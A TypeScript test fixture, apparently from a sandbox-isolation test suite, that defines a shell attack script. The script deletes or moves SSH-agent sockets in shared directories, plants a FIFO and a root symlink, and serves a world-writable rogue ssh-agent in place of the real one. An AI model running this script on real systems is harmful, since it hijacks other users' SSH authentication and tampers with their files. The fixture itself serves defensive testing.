/**
 * What hostile code in one sandbox does to every agent directory it was given: move the socket
 * aside, add files, a FIFO and a symlink, and serve an agent of its own (an empty one) at
 * `agent.sock`, which would then answer every other sandbox's requests. Each step that works is
 * reported; then it stays up so its listener would keep serving.
 */
export const ATTACK = [
  'for d in "$@"; do',
  '  mv "$d/agent.sock" "$d/.moved" 2>/dev/null && echo "moved $d"',
  '  rm -f "$d/agent.sock" 2>/dev/null; test -e "$d/agent.sock" || echo "removed $d"',
  '  touch "$d/junk" 2>/dev/null && echo "added $d"',
  '  busybox mkfifo "$d/fifo" 2>/dev/null && echo "fifo $d"',
  '  busybox ln -s / "$d/link" 2>/dev/null && echo "symlink $d"',
  '  ssh-agent -a "$d/agent.sock" >/dev/null 2>&1 && busybox chmod 666 "$d/agent.sock" && echo "serving $d"',
  'done',
  'echo attacked',
  'exec sleep 600',
].join('\n');

/** The lab image has no ssh-agent; the attacker brings the host's (its libraries are ssh-add's). */
export const ATTACKER_TOOLS = ['-v', '/usr/bin/ssh-agent:/usr/bin/ssh-agent:ro'];
